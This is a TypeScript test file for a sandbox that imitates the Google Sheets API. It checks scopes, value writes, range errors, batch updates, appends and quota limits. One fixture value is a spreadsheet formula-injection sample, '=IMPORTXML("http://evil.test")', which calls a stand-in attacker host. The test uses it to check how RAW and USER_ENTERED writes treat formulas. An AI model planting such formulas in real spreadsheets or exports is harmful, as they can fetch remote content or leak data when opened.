import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { startSandbox } from '../../startSandbox.ts';
import { grantAccess } from '../googleTestClient.ts';
import type { JsonAnswer } from '../googleTestClient.ts';
import { createSheetsTestClient, messageOf, rangePath } from './sheetsTestClient.ts';
import type { SheetsTestClient } from './sheetsTestClient.ts';

const sandbox = await startSandbox({ port: 0 });
afterAll(() => sandbox.close());

// The quota counts calls by grant.
let sheets: SheetsTestClient;
beforeEach(async () => {
  const { access_token: token } = await grantAccess(sandbox.url);
  sheets = createSheetsTestClient(sandbox.url, token);
});

describe('spreadsheets', () => {
  test('can be created, described and opened as a page', async () => {
    const id = await sheets.createSheet();
    const fields =
      'spreadsheetId,properties.title,sheets.properties(sheetId,title,gridProperties(rowCount,frozenRowCount)),spreadsheetUrl';
    expect((await sheets.call('GET', `/v4/spreadsheets/${id}?includeGridData=false&fields=${fields}`)).body).toEqual({
      spreadsheetId: id,
      properties: { title: 'Test export' },
      sheets: [{ properties: { sheetId: 0, title: 'Export', gridProperties: { rowCount: 10, frozenRowCount: 1 } } }],
      spreadsheetUrl: `${sandbox.url}/spreadsheets/d/${id}/edit`,
    });
    await sheets.write(id, 'Export!A1:B2', [
      ['name', 'spend'],
      ['<b>Ada</b>', 4.5],
    ]);
    const page = await (await fetch(`${sandbox.url}/spreadsheets/d/${id}/edit`)).text();
    expect(page).toContain('Test export');
    expect(page).toContain('&lt;b&gt;Ada&lt;/b&gt;');
    expect(page).toContain('Sandbox: this is not Google Sheets');
    expect((await fetch(`${sandbox.url}/spreadsheets/d/1unknown/edit`)).status).toBe(404);
  });

  test('the default tab has 1000 rows and 26 columns', async () => {
    const { body } = await sheets.call('POST', '/v4/spreadsheets', {});
    expect(body).toMatchObject({
      sheets: [{ properties: { title: 'Sheet1', gridProperties: { rowCount: 1000, columnCount: 26 } } }],
    });
  });

  test('require a token with the right scope, and an existing file', async () => {
    const id = await sheets.createSheet();
    expect((await sheets.call('GET', `/v4/spreadsheets/${id}`, undefined, 'ya29.unknown')).status).toBe(401);
    const adsOnly = await grantAccess(sandbox.url, { ticked: ['https://www.googleapis.com/auth/adwords'] });
    const refused = await sheets.call('GET', `/v4/spreadsheets/${id}`, undefined, adsOnly.access_token);
    expect(refused).toMatchObject({
      status: 403,
      body: { error: { details: [{ reason: 'ACCESS_TOKEN_SCOPE_INSUFFICIENT' }] } },
    });
    const missing = await sheets.call('GET', '/v4/spreadsheets/sandbox-leads-public-0001');
    expect([missing.status, messageOf(missing)]).toEqual([404, 'Requested entity was not found.']);
  });
});

describe('values', () => {
  test('RAW keeps every value, USER_ENTERED converts text to formulas and numbers', async () => {
    const id = await sheets.createSheet();
    const row = ['=IMPORTXML("http://evil.test")', '+49 170 555', '00123', 120205];
    expect((await sheets.write(id, 'Export!A1:D1', [row])).body).toEqual({
      spreadsheetId: id,
      updatedRange: 'Export!A1:D1',
      updatedRows: 1,
      updatedColumns: 4,
      updatedCells: 4,
    });
    expect(await sheets.read(id, 'Export!A1:D1', '?valueRenderOption=UNFORMATTED_VALUE')).toMatchObject({
      values: [row],
    });
    expect(await sheets.read(id, 'Export!A1:D1')).toMatchObject({ values: [[row[0], row[1], row[2], '120205']] });

    await sheets.write(id, 'Export!A2:D2', [row], 'USER_ENTERED');
    const { body } = await sheets.control('GET', `/spreadsheets/${id}`);
    expect(body).toMatchObject({
      writeCalls: 2,
      sheets: [
        { rows: [row, [{ formula: row[0] }, 49170555, 123, 120205]], formulas: [{ cell: 'A2', formula: row[0] }] },
      ],
    });
  });

  test('null keeps a cell, an empty text clears it, and reads omit trailing empty cells', async () => {
    const id = await sheets.createSheet();
    await sheets.write(id, 'Export!A1:C2', [
      ['a', 'b', 'c'],
      ['d', 'e', 'f'],
    ]);
    await sheets.write(id, 'Export!A1:C2', [
      [null, 'B', ''],
      ['', '', ''],
    ]);
    expect(await sheets.read(id, 'Export!A1:Z99')).toEqual({
      range: 'Export!A1:D10',
      majorDimension: 'ROWS',
      values: [['a', 'B']],
    });
    expect(await sheets.read(id, 'Export!A5:B6')).toEqual({ range: 'Export!A5:B6', majorDimension: 'ROWS' });
    const both = await sheets.call(
      'GET',
      `/v4/spreadsheets/${id}/values:batchGet?ranges=Export!A1&ranges=Export!B:B&majorDimension=COLUMNS`,
    );
    expect(both.body).toMatchObject({
      valueRanges: [
        { range: 'Export!A1', values: [['a']] },
        { range: 'Export!B1:B10', values: [['B']] },
      ],
    });
  });

  test.each([
    ['Leadz!A1:B2', [['a']], 'Unable to parse range: Leadz!A1:B2'],
    ['Export!A11:B11', [['a']], 'Range (Export!A11:B11) exceeds grid limits. Max rows: 10, max columns: 4'],
    ['Export!A1:E1', [['a']], 'Range (Export!A1:E1) exceeds grid limits. Max rows: 10, max columns: 4'],
    [
      'Export!A1:B2',
      [['a'], ['b'], ['c']],
      "Requested writing within range ['Export'!A1:B2], but tried writing to row [3]",
    ],
    [
      'Export!A1:B2',
      [['a', 'b', 'c']],
      "Requested writing within range ['Export'!A1:B2], but tried writing to column [C]",
    ],
    ['Export!A1:B2', [['x'.repeat(50_001)]], 'more than the maximum of 50000 characters in a single cell'],
    ['Export!A1:B2', [[{ nested: true }]], 'Invalid values[0][0]: struct_value'],
  ])('writing to %s is refused with its own message', async (range, values, message) => {
    const id = await sheets.createSheet();
    const answer = await sheets.write(id, range, values);
    expect(answer.status).toBe(400);
    expect(messageOf(answer)).toContain(message);
    expect((await sheets.control('GET', `/spreadsheets/${id}`)).body).toMatchObject({
      writeCalls: 0,
      sheets: [{ rows: [] }],
    });
  });

  test('a batch of values applies completely or not at all', async () => {
    const id = await sheets.createSheet();
    const batch = (second: string): Promise<JsonAnswer> =>
      sheets.call('POST', `/v4/spreadsheets/${id}/values:batchUpdate`, {
        valueInputOption: 'RAW',
        data: [
          { range: 'Export!A1:B1', values: [['a', 1]] },
          { range: second, values: [['b', 2]] },
        ],
      });
    expect((await batch('Export!A99:B99')).status).toBe(400);
    expect(await sheets.read(id, 'Export')).not.toHaveProperty('values');
    expect((await batch('Export!A2:B2')).body).toMatchObject({
      totalUpdatedRows: 2,
      totalUpdatedCells: 4,
      totalUpdatedSheets: 1,
    });
    expect(await sheets.read(id, 'Export')).toMatchObject({
      values: [
        ['a', '1'],
        ['b', '2'],
      ],
    });
    const withoutOption = await sheets.call('POST', `/v4/spreadsheets/${id}/values:batchUpdate`, { data: [] });
    expect(messageOf(withoutOption)).toContain('valueInputOption');
  });

  test('append writes below the table and grows the sheet, and clear empties a range', async () => {
    const id = await sheets.createSheet(3, 3);
    await sheets.write(id, 'Export!A1:B2', [
      ['a', 'b'],
      ['c', 'd'],
    ]);
    const append = (rows: string[][]): Promise<JsonAnswer> =>
      sheets.call('POST', `${rangePath(id, 'Export!A1:B1')}:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS`, {
        values: rows,
      });
    expect(
      (
        await append([
          ['e', 'f'],
          ['g', 'h'],
        ])
      ).body,
    ).toMatchObject({
      tableRange: 'Export!A1:B2',
      updates: { updatedRange: 'Export!A3:B4', updatedRows: 2 },
    });
    expect(await sheets.read(id, 'Export!A:A')).toEqual({
      range: 'Export!A1:A5',
      majorDimension: 'ROWS',
      values: [['a'], ['c'], ['e'], ['g']],
    });
    await sheets.call('POST', `${rangePath(id, 'Export!A2:B3')}:clear`, {});
    expect(await sheets.read(id, 'Export!A:A')).toMatchObject({ values: [['a'], [], [], ['g']] });
  });
});

describe('quota', () => {
  test('returns 429 above the quota of a minute, counted per grant', async () => {
    const id = await sheets.createSheet();
    await sheets.control('POST', '/google/quota', { readsPerMinute: 2 });
    try {
      const other = await grantAccess(sandbox.url);
      // Even if a minute ends in between, one of the two minutes has three reads.
      const answers = await Promise.all([1, 2, 3, 4, 5].map(() => sheets.call('GET', `/v4/spreadsheets/${id}`)));
      const refused = answers.find((answer) => answer.status === 429);
      expect(refused?.body).toMatchObject({
        error: {
          status: 'RESOURCE_EXHAUSTED',
          details: [{ reason: 'RATE_LIMIT_EXCEEDED', metadata: { quota_limit_value: '2' } }, {}],
        },
      });
      expect((await sheets.call('GET', `/v4/spreadsheets/${id}`, undefined, other.access_token)).status).toBe(200);
      expect((await sheets.write(id, 'Export!A1', [['still']])).status).toBe(200);
    } finally {
      await sheets.control('POST', '/google/quota', { readsPerMinute: 60 });
    }
  });
});
